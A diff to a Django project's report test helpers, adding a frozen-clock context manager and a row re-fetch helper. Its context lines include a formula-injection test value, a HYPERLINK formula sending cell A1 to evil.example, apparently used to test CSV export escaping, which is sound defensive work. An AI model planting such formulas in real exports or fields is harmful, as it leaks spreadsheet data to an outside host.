@@ -1,8 +1,12 @@
 """A small, hand-made world for the report tests, and the completion report's rows
 for it written out by hand (not derived from the report's own query)."""
 
+from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
+
+import pytest
+from django.utils import timezone
 
 from learning.accounts.models import Organisation
 from learning.accounts.roles import appoint_focal_point
@@ -29,6 +33,22 @@ CSV_HEADINGS = [
     "Certificate status",
 ]
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@contextmanager
+def clock_at(moment):
+    """timezone.now() returns `moment` inside: for data built once per module on
+    the clock its tests freeze (a module-scoped fixture cannot use monkeypatch)."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(timezone, "now", lambda: moment)
+        yield
+
+
+def fresh(instance):
+    """A copy of a row built once per module, for a test that changes it: the
+    change to the row rolls back after the test, one to the shared object would
+    not."""
+    return type(instance).objects.get(pk=instance.pk)
 
 
 class World:
